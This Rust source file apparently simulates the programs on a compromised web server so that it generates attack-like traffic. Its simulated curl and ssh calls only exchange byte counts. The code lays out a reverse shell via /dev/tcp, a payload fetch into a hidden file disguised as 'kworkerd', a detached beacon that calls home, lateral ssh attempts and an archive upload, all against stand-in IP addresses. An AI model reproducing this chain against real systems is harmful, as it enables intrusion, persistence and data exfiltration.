//! The programs of the web server, those that belong there and those that do not.

use std::{
    fs,
    io::{BufRead as _, Read as _},
    net::IpAddr,
    os::unix::process::CommandExt as _,
    process::Command,
    time::Duration,
};

use anyhow::{Context as _, bail};
use nix::unistd::{Gid, Uid, setresgid, setresuid};

use super::{DATABASE, INTRUDER, INTRUDERS_NAME, RESOLVER, UPDATES, WEB, wire};

/// Where the intruder keeps what he fetched.
const KEPT: &str = "/tmp/.cache/kworkerd";
/// How often it calls home, and how often updates are asked for.
const BEACON: Duration = Duration::from_secs(5);
const UPDATE: Duration = Duration::from_secs(9);

/// Serves pages. Who breaks in makes it start a shell.
pub fn nginx() -> anyhow::Result<()> {
    wire::serve(WEB, 443)?;
    // As a server does that has bound its port.
    become_user(33)?;
    println!("nginx");
    for line in std::io::stdin().lock().lines() {
        let script = line?;
        Command::new("/usr/bin/bash")
            .args(["-c", &script])
            .spawn()?;
        println!("shell");
    }
    Ok(())
}

/// Lets administrators in.
pub fn sshd() -> anyhow::Result<()> {
    wire::serve(WEB, 22)?;
    println!("sshd");
    wait();
    Ok(())
}

/// The shell. With a way back in its words it is the intruder's, else the administrator's.
pub fn bash(words: &[&str]) -> anyhow::Result<()> {
    if words.iter().any(|word| word.contains("/dev/tcp/")) {
        return intruders_shell();
    }
    run("/usr/bin/curl", &["-s", "https://198.51.100.10/status"])
}

/// What is done by hand, a command after the other.
fn intruders_shell() -> anyhow::Result<()> {
    let mut way_back = wire::from(WEB, INTRUDER, 4443)?;
    let mut types = |bytes, wanted| wire::ask(&mut way_back, bytes, wanted);
    types(40, 60)?;
    pause(2);
    types(900, 25)?;
    run(
        "/usr/bin/curl",
        &["-s", "http://203.0.113.66/k", "-o", KEPT],
    )?;
    fs::create_dir_all("/tmp/.cache")?;
    fs::copy("/proc/self/exe", KEPT)?;
    let mut beacon = Command::new(KEPT);
    // It outlives the shell.
    beacon.process_group(0).spawn()?;
    pause(6);
    types(1_400, 110)?;
    for host in 20..=24 {
        let host = format!("app@10.0.0.{host}");
        // Most do not let it in.
        let _ = run("/usr/bin/ssh", &["-o", "BatchMode=yes", &host, "id"]);
    }
    pause(8);
    types(200, 90)?;
    run(
        "/usr/bin/curl",
        &["-s", "-T", "/tmp/.cache/o.tgz", "https://198.51.100.99/u"],
    )?;
    pause(10);
    types(60, 20)?;
    // It stays.
    wait();
    Ok(())
}

/// Fetches or sends something.
pub fn curl(words: &[&str]) -> anyhow::Result<()> {
    let url = words.iter().find_map(|word| word.split_once("://"));
    let (scheme, rest) = url.context("no URL")?;
    let host: IpAddr = rest.split('/').next().unwrap_or_default().parse()?;
    let port = if scheme == "https" { 443 } else { 80 };
    let (bytes, wanted) = match rest.rsplit('/').next() {
        Some("k") => (82, 48_200),
        Some("u") => (24_000_000, 180),
        Some("run.sh") => (85, 912),
        _ => (130, 2_300),
    };
    wire::ask(&mut wire::from(WEB, host, port)?, bytes, wanted)
}

/// Asks another host to be let in.
pub fn ssh(words: &[&str]) -> anyhow::Result<()> {
    let host = words.iter().find_map(|word| word.split_once('@'));
    let (_, host) = host.context("no host")?;
    let mut stream = wire::from(WEB, host.parse()?, 22)?;
    wire::ask(&mut stream, 2_600, 3_100)
}

/// The intruder's own: removes its file, opens a back door and calls home.
pub fn kworkerd() -> anyhow::Result<()> {
    fs::remove_file(KEPT)?;
    wire::serve(WEB, 4444)?;
    wire::look_up(WEB, RESOLVER, INTRUDERS_NAME)?;
    loop {
        wire::ask(&mut wire::from(WEB, INTRUDER, 8443)?, 96, 32)?;
        std::thread::sleep(BEACON);
    }
}

/// The application, which keeps a connection to its database; or a job in a container.
pub fn python(words: &[&str]) -> anyhow::Result<()> {
    if words.contains(&"job.py") {
        println!("job");
        for _ in std::io::stdin().lock().lines() {
            run("/usr/bin/curl", &["-s", "http://203.0.113.77/run.sh"])?;
            println!("fetched");
        }
        return Ok(());
    }
    become_user(1001)?;
    let mut database = wire::from(WEB, DATABASE, 5432)?;
    wire::ask(&mut database, 900, 4_000)?;
    println!("app");
    loop {
        pause(3);
        wire::ask(&mut database, 300, 1_500)?;
    }
}

/// Asks for updates.
pub fn update_agent() -> anyhow::Result<()> {
    println!("update-agent");
    loop {
        wire::ask(&mut wire::from(WEB, UPDATES, 443)?, 300, 8_000)?;
        std::thread::sleep(UPDATE);
    }
}

fn become_user(id: u32) -> anyhow::Result<()> {
    let (uid, gid) = (Uid::from_raw(id), Gid::from_raw(id));
    setresgid(gid, gid, gid)?;
    setresuid(uid, uid, uid)?;
    Ok(())
}

fn run(program: &str, words: &[&str]) -> anyhow::Result<()> {
    let status = Command::new(program).args(words).status()?;
    if !status.success() {
        bail!("{program} failed");
    }
    Ok(())
}

fn pause(seconds: u64) {
    std::thread::sleep(Duration::from_secs(seconds));
}

fn wait() {
    let _ = std::io::stdin().read_to_end(&mut Vec::new());
}
